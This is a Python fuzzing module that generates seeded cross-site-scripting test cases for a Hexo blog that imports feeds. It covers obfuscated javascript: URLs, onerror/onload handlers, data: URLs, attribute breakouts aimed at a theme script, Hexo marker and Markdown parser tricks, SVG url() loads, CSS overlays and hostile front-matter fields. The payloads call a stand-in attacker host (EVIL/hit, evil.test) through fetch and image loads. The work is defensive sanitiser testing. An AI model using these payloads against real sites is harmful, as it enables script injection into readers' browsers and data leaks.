"""Hostile bodies and fields for the fuzzer at the consumer (test_blog_fuzz.py,
scripts/fuzz_blog.py): combinations of tags, attributes and URL spellings, Markdown
constructs, Hexo's own syntax, theme sinks, SVG presentation attributes, CSS and front-matter
fields, deterministic from a seed.

Each case is a dict in the shape of tests/fixtures/hostile/cases.yaml (`id`, `family`, `html`,
EVIL for the attacker's origin) with optional `title`, `author`, `tags`, `feed_title` (the feed
is fetched alone, without `--source`: its title becomes the categories), `feed` (rss, atom,
json), `body_format` and `pair` (the case it meets on the home page). Every payload names its
case: it fetches `EVIL/hit/<id>`, or writes `XSSHIT:<id>` into the title or the page, built at
run time so that the text never stands in the markup.
"""

from __future__ import annotations

import random
from collections.abc import Callable
from html import escape

import yaml

FEEDS = ("rss", "atom", "json")
BODY_FORMATS = ("html", "markdown")


def js(rng: random.Random, cid: str, avoid: str = "") -> str:
    """A script without white space or `>` that calls the attacker or marks the page."""
    forms = [
        f"fetch('EVIL/hit/{cid}')",
        f"fetch(`EVIL/hit/{cid}`)",
        f"document.title=/XSS/.source+/HIT:{cid}/.source",
        f"document.body.append(/XSS/.source+/HIT:{cid}/.source)",
        f"new(Image)().src='EVIL/hit/{cid}'",
        f"import('EVIL/hit/{cid}.js')",
    ]
    return rng.choice([f for f in forms if not set(avoid) & set(f)])


def attr(value: str) -> str:
    """A value written inside double quotes as a browser reads it back."""
    return escape(value, quote=True)


def live_img(rng: random.Random, cid: str, quote: str = '"') -> str:
    """Markup that runs script once it is markup: an image that fails to load, or an SVG."""
    code = js(rng, cid, avoid=quote + "\"'" if quote else "\"'")
    return rng.choice(
        [
            f"<img src=x onerror={code}>",
            f"<svg onload={code}>",
            f"<img/src=x/onerror={code}>",
            f"<details/open/ontoggle={code}>",
        ]
    )


# URL spellings of a script URL: entities, white space and controls a browser drops, case.
def script_url(rng: random.Random, cid: str) -> str:
    code = js(rng, cid, avoid='"')
    spellings = [
        "javascript:",
        "JaVaScRiPt:",
        "&#106;avascript:",
        "&#x6A;avascript&#x3A;",
        "&#0000106avascript:",
        "javascript&colon;",
        "java&Tab;script:",
        "java&#10;script:",
        "java\tscript:",
        "java\nscript:",
        "&#1; javascript:",
        " \u0001javascript:",
        "vbscript:",
        "jav&#x09;ascript:",
        "javascript&#58;",
    ]
    return attr_raw(rng.choice(spellings)) + attr(code)


def attr_raw(text: str) -> str:
    """Entities and controls kept as written (they are the obfuscation)."""
    return text


BREAKOUT_SCHEMES = [
    "x:",
    "mailto:",
    "data:image/png,",
    "tel:",
    "foo+bar.baz-1:",
    "web+x:",
    "blob:",
    "ms-x:",
    "mailto:a@b.test?subject=",
]


def breakout_url(rng: random.Random, cid: str) -> str:
    """A URL that keeps `"<>` when a browser reads it back (a non-special scheme, or one that
    does not parse), so that a theme writing `'…href="' + this.src + '"…'` makes markup."""
    tail = '"><' + live_img(rng, cid, quote="")[1:]
    kind = rng.randrange(4)
    if kind == 0:
        return attr(rng.choice(BREAKOUT_SCHEMES) + tail)
    if kind == 1:  # unparsable: the property falls back to the attribute's text
        return attr(
            rng.choice(["http://[", "http://a:99999/", "https://%zz/", "http://a b/"]) + tail
        )
    if kind == 2:  # a special scheme whose host keeps a quote
        return attr(f'http://a"onerror={js(rng, cid, avoid=chr(34))}//x/')
    return attr(rng.choice(["x:", "data:image/gif,"]) + tail.replace('"', "'"))


def data_url(rng: random.Random, cid: str) -> str:
    """A data: URL holding a document or an SVG that runs script (as text, before quoting)."""
    svg = f'<svg xmlns="http://www.w3.org/2000/svg" onload="{js(rng, cid, avoid=chr(34))}"/>'
    return rng.choice(
        [
            f"data:text/html,<script>{js(rng, cid)}</script>",
            f"data:image/svg+xml,{svg}",
            "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
            f"DATA:text/javascript,{js(rng, cid)}",
        ]
    )


AREA = '<img src="EVIL/ok/map.png" usemap="#m"><map name="m"><area coords="0,0,9,9" href="{u}">'
CARRIERS = [
    ("a", "href", '<a href="{u}">链接</a>'),
    ("area", "href", AREA + "</map>"),
    ("img", "src", '<p><img src="{u}"></p>'),
    ("img", "data-src", '<p><img data-src="{u}.png"></p>'),
    ("img", "srcset", '<img srcset="EVIL/ok/a.png 1x, {u} 2x">'),
    ("svg a", "href", '<svg width=20 height=20><a href="{u}"><text y=15>t</text></a></svg>'),
    (
        "svg a",
        "xlink:href",
        '<svg width=20 height=20><a xlink:href="{u}"><text y=15>t</text></a></svg>',
    ),
    (
        "svg animate",
        "values",
        '<svg><a><animate attributeName=href values="0;{u}"/><text y=15>t</text></a></svg>',
    ),
    ("svg set", "to", '<svg><a><set attributeName=href to="{u}"/><text y=15>t</text></a></svg>'),
    ("video", "poster", '<video poster="{u}"></video>'),
    ("input", "src", '<input type=image src="{u}">'),
    ("button", "formaction", '<button formaction="{u}">按</button>'),
    ("blockquote", "cite", '<blockquote cite="{u}">引</blockquote>'),
    ("iframe", "src", '<iframe src="{u}"></iframe>'),
    ("object", "data", '<object data="{u}"></object>'),
    ("math", "href", '<math><mtext href="{u}">m</mtext></math>'),
    ("a", "ping", '<a href="EVIL/ok" ping="{u}">p</a>'),
]


def url_case(rng: random.Random, cid: str) -> tuple[str, str]:
    tag, name, template = rng.choice(CARRIERS)
    kind = rng.randrange(5)
    if kind <= 1:
        url = script_url(rng, cid)
    elif kind == 2:
        url = attr(data_url(rng, cid))
    elif kind == 3:
        url = breakout_url(rng, cid)
    else:  # protocol-relative and backslash spellings of the attacker's host (images may load)
        url = rng.choice(["//", "\\\\", "/\\", "http:", " //"]) + f"evil.test/ok/{cid}"
    return "URL", template.replace("{u}", url)


def theme_sink_case(rng: random.Random, cid: str) -> tuple[str, str]:
    """Landscape's script.js wraps each post image as '<a href="' + this.src + '" …
    data-caption="' + alt + '">': the URL and the alt text become markup."""
    kind = rng.randrange(4)
    if kind == 0:
        html = f'<p><img src="{breakout_url(rng, cid)}"></p>'
    elif kind == 1:
        html = f'<p><img data-src="{breakout_url(rng, cid)}.png"></p>'
    elif kind == 2:
        alt = attr('"><' + live_img(rng, cid, quote="")[1:])
        html = f'<p><img src="EVIL/ok/{cid}.png" alt="{alt}"></p>'
    else:
        html = f'<p><img src="EVIL/ok/{cid}.png" title="{breakout_url(rng, cid)}"></p>'
    return "theme sink", html


MARKERS = ["<!-- more -->", "<!--more-->", "<!-- MORE -->", "<!--More -->", "<!-- more-->"]
MARKERS += ["<!--  more  -->", "<!--\tmore\t-->", "<!-- more --!>"]
OPENERS = [
    ("<!--", "-->"),
    ("<textarea>", "</textarea>"),
    ("<xmp>", "</xmp>"),
    ("<style>", "</style>"),
    ("<title>", "</title>"),
    ("<noembed>", "</noembed>"),
    ("<noframes>", "</noframes>"),
    ("<noscript>", "</noscript>"),
]


def hexo_marker_case(rng: random.Random, cid: str) -> tuple[str, str]:
    """Hexo replaces `<!-- ?more ?-->` anywhere in the rendered post with `<span id="more">`
    (its quotes close an attribute) and cuts the home page's excerpt there; its backtick
    filter reads ``` fences anywhere in the file."""
    marker = rng.choice(MARKERS)
    kind = rng.randrange(5)
    if kind == 0:
        q = rng.choice(['"', '"', "'"])
        value = marker + live_img(rng, cid, quote=q)
        html = f'<p><img src="EVIL/ok/{cid}.png" title={q}{value}{q}>图</p>'
    elif kind == 1:
        html = f"<p>文字 {marker} {escape(live_img(rng, cid))}</p>"
    elif kind == 2:
        fence = rng.choice(["```", "~~~", "```js", "  ```", "````"])
        code = live_img(rng, cid)
        html = (
            f'<p><img src="EVIL/ok/{cid}.png" title="a\n{fence}\nz\n{fence.strip()[:3]}\n'
            f'{code}">图</p>'
        )
    elif kind == 3:
        html = f"<p>代码</p><pre>{marker}\n{escape(live_img(rng, cid))}</pre>"
    else:
        html = f"<p>{rng.choice(['{% raw %}', '{{ x }}', '{% codeblock %}', '{#'])}{marker}</p>"
    return "Hexo marker", html


def excerpt_pair(rng: random.Random, cid: str, follower: str) -> tuple[dict, dict]:
    """A post whose excerpt ends inside a comment or raw-text element, and the post after it
    on the home page whose attribute holds that element's end and a live image."""
    opener, closer = rng.choice(OPENERS)
    marker = rng.choice(MARKERS[:5])
    if opener == "<!--":
        leader = f"<p>x<!-- a {marker} b --></p>"
    else:
        leader = f"<p>x</p>{opener}a {marker} b{closer}"
    tail = f'<p title="{closer}{live_img(rng, follower, quote=chr(34))}">y</p>'
    return (
        {"id": cid, "family": "Hexo marker", "html": leader, "pair": follower},
        {"id": follower, "family": "Hexo marker", "html": tail, "pair": cid},
    )


MD_URLS = [
    "javascript\\:",
    "javascript&#58;",
    "javascript&colon;",
    "&#x6A;avascript:",
    "JAVASCRIPT:",
    "java\\script:",
    "javascript%3A",
    "vbscript\\:",
    "javas&#99;ript:",
]


def markdown_case(rng: random.Random, cid: str) -> tuple[str, str]:
    """What marked reads differently from an HTML parser: code spans and blocks that swallow
    a comment or raw-text opener, `<a<script>`, links and autolinks with escaped schemes."""
    code = js(rng, cid, avoid=" ")
    kind = rng.randrange(6)
    opener, closer = rng.choice(OPENERS[:3])
    if kind == 0:
        span = rng.choice(["`{o}`", "``{o}``", "` {o} `"]).format(o=opener)
        html = f"<p>{span} {live_img(rng, cid)} {closer}</p>"
    elif kind == 1:
        block = rng.choice(["\n\n    {o}\n\n", "\n\n```\n{o}\n```\n\n", "\n\n~~~\n{o}\n~~~\n\n"])
        html = f"<p>a</p>{block.format(o=opener)}{live_img(rng, cid)} {closer}"
    elif kind == 2:
        tag = rng.choice(["a", "b", "x", "p"])
        inner = rng.choice(
            [
                f"<script src=EVIL/hit/{cid}.js></script>",
                live_img(rng, cid),
                f"<iframe src=EVIL/hit/{cid}></iframe>",
            ]
        )
        html = f"<p><{tag}{inner}</p>"
    elif kind == 3:
        url = rng.choice(MD_URLS) + code
        link = rng.choice(["[y]({u})", "[y](<{u}>)", '[y]({u} "t")', "![y]({u})", "[y]( {u} )"])
        html = f"<p>{link.format(u=url)}</p>"
        if rng.random() < 0.3:
            html = f"\n\n{link.format(u=url)}\n\n"
    elif kind == 4:
        url = rng.choice(MD_URLS) + code
        html = f"\n\n[y][r]\n\n[r]: {url}\n\n"
    else:
        url = rng.choice(MD_URLS) + code.replace("(", "%28").replace(")", "%29")
        html = f"<p>see &lt;{url}&gt; and <{url}></p>"
    return "Markdown", html


SVG_ATTRS = ["fill", "stroke", "mask", "clip-path", "filter", "marker-start", "marker-end"]
SVG_ATTRS += ["marker-mid", "cursor"]


def svg_case(rng: random.Random, cid: str) -> tuple[str, str]:
    """SVG presentation attributes are CSS: `url(…)` there loads a foreign document."""
    target = rng.choice(["EVIL/hit/{c}#a", "//evil.test/hit/{c}#a", "EVIL/hit/{c}.svg#a"])
    target = target.format(c=cid)
    value = rng.choice(["url({t})", "url('{t}')", "URL( {t} )", "url(&quot;{t}&quot;)"])
    value = value.format(t=target)
    if rng.random() < 0.2:
        value = value.replace("url", "u\\72l", 1)
    name = rng.choice(SVG_ATTRS)
    shape = rng.choice(
        [
            '<rect width="20" height="20" {a}="{v}"/>',
            '<path d="M0 0L10 10L20 0" stroke="black" {a}="{v}"/>',
            '<g {a}="{v}"><circle cx="5" cy="5" r="5"/></g>',
            '<text y="15" {a}="{v}">t</text>',
        ]
    )
    if rng.random() < 0.25:
        html = f'<svg width="20" height="20"><use href="{target}"/></svg>'
    elif rng.random() < 0.25:
        html = (
            '<svg width="20" height="20"><filter id="f"><feImage href="'
            + target.replace("/hit/", "/ok/")
            + '"/></filter><rect width="9" height="9" filter="url(#f)"/></svg>'
        )
    else:
        html = f'<svg width="20" height="20">{shape.format(a=name, v=value)}</svg>'
    return "SVG presentation", html


INTERFACE = ["#sidebar", "#header", "#footer", "body", "html", "#banner", ".widget"]
INTERFACE += ["#main-nav", "#container", ":root", "#logo", ".article-title", "#s\\69 debar"]
HIDING = ["display:none", "visibility:hidden", "opacity:0", "transform:translateX(-9999px)"]
HIDING += ["color:transparent", "filter:blur(5px)", "background-color:red", "font-size:0"]
HIDING += ["clip-path:inset(50%)", "position:fixed;top:0;left:0"]
OVERLAYS = [
    "position:fixed;top:0;left:0;width:100%;height:100%;background:#fff;z-index:99999",
    "position:absolute;top:-300px;left:0;width:2000px;height:2000px;background:#fff",
    "margin-top:-2000px;height:3000px;background:#fff;position:relative;z-index:9",
    "transform:scale(40);background:#fff",
    "position:relative;left:-2000px;width:5000px;height:900px;background:#fff",
]


def css_case(rng: random.Random, cid: str) -> tuple[str, str]:
    """A feed's CSS may style only its own article: never hide, move or cover the blog's
    header, menu, sidebar or the other posts."""
    if rng.random() < 0.35:
        style = rng.choice(OVERLAYS)
        return "CSS", f'<div style="{style}">覆盖{cid}</div>'
    rule = f"{rng.choice(INTERFACE)}{{{rng.choice(HIDING)}{rng.choice(['', ' !important'])}}}"
    wrap = rng.choice(["{r}", "@media all{{{r}}}", "@supports (display:block){{{r}}}"])
    wrap = rng.choice([wrap, "@layer x{{{r}}}", ".article-entry p{{}} {r}"])
    css = wrap.format(r=rule)
    html = rng.choice(["<style>{c}</style>", "<svg><style>{c}</style></svg>"]).format(c=css)
    return "CSS", f"<p>样式{cid}</p>{html}"


FIELD_VALUES = [
    "{live}",
    '"><{live_q}',
    "'><{live_q}",
    "</a>{live}",
    "<!-- more -->{live}",
    "{{% raw %}}{live}{{% endraw %}}",
    "<a href=javascript:{code}>x</a>",
    '" onmouseover="{code}" x="',
    "</title>{live}",
    "&lt;img src=x onerror={code}&gt;",
    "</script>{live}",
]


def field_value(rng: random.Random, cid: str) -> str:
    live = live_img(rng, cid, quote="")
    template = rng.choice(FIELD_VALUES)
    return "新闻 " + template.format(live=live, live_q=live[1:], code=js(rng, cid, avoid="\" '"))


def field_case(rng: random.Random, cid: str) -> dict:
    """Front-matter fields from the feed: its title (the categories of a feed fetched without
    `--source`), the entry's title, author and categories (tags)."""
    name = rng.choice(["feed_title", "title", "author", "tags", "tags"])
    value = field_value(rng, cid)
    case = {"id": cid, "family": f"front matter {name}", "html": f"<p>正文{cid}</p>"}
    case[name] = [value, "普通"] if name == "tags" else value
    return case


BODY_FAMILIES: dict[str, Callable[[random.Random, str], tuple[str, str]]] = {
    "URL": url_case,
    "theme sink": theme_sink_case,
    "Hexo marker": hexo_marker_case,
    "Markdown": markdown_case,
    "SVG presentation": svg_case,
    "CSS": css_case,
}
FAMILIES = [*BODY_FAMILIES, "excerpt pair", "front matter"]


def generate(seed: int, count: int) -> list[dict]:
    """`count` cases (a pair counts two), every family in turn, each sent through a feed
    format and body format in turn; the same seed gives the same cases."""
    rng = random.Random(seed)
    cases: list[dict] = []
    k = 0
    while len(cases) < count:
        family = FAMILIES[k % len(FAMILIES)]
        cid = f"s{seed}c{len(cases)}"
        if family == "excerpt pair":
            made = list(excerpt_pair(rng, cid, f"s{seed}c{len(cases) + 1}"))
        elif family == "front matter":
            made = [field_case(rng, cid)]
        else:
            name, html = BODY_FAMILIES[family](rng, cid)
            made = [{"id": cid, "family": name, "html": html}]
        for case in made:
            n = len(cases)
            case.setdefault("feed", FEEDS[n % 3])
            case.setdefault("body_format", BODY_FORMATS[(n // 3) % 2])
            cases.append(case)
        if family == "excerpt pair":  # the pair meets on the home page only in one source
            made[1]["feed"], made[1]["body_format"] = made[0]["feed"], made[0]["body_format"]
        k += 1
    return cases


def as_yaml(case: dict) -> str:
    """The case as a line of tests/fixtures/hostile/cases.yaml."""
    kept = {k: v for k, v in case.items() if k not in ("date", "iso_date")}
    line = yaml.safe_dump(kept, allow_unicode=True, default_flow_style=True, width=10**6)
    return f"  - {line.strip()}"


def report(cases: list[dict], finds: list[dict]) -> list[str]:
    """Each find as the cases to paste (a pair with its partner) and what fired, the same
    finding on many pages said once."""
    by_id = {c["id"]: c for c in cases}
    seen: dict[tuple[str, str], list[str]] = {}
    for find in finds:
        what = find["what"].split(" on ")[0].split(" in the DOM of ")[0].split(" from ")[0]
        seen.setdefault((find["id"], what), []).append(find["what"])
    lines, shown = [], set()
    for (fid, _), whats in seen.items():
        ids = [i for i in fid.split(",") if i in by_id]
        for cid in ids + [by_id[i]["pair"] for i in ids if "pair" in by_id[i]]:
            if cid not in shown:
                shown.add(cid)
                lines.append(as_yaml(by_id[cid]))
        more = f" (and {len(whats) - 1} more pages)" if len(whats) > 1 else ""
        lines.append(f"    # {fid}: {whats[0]}{more}")
    return lines
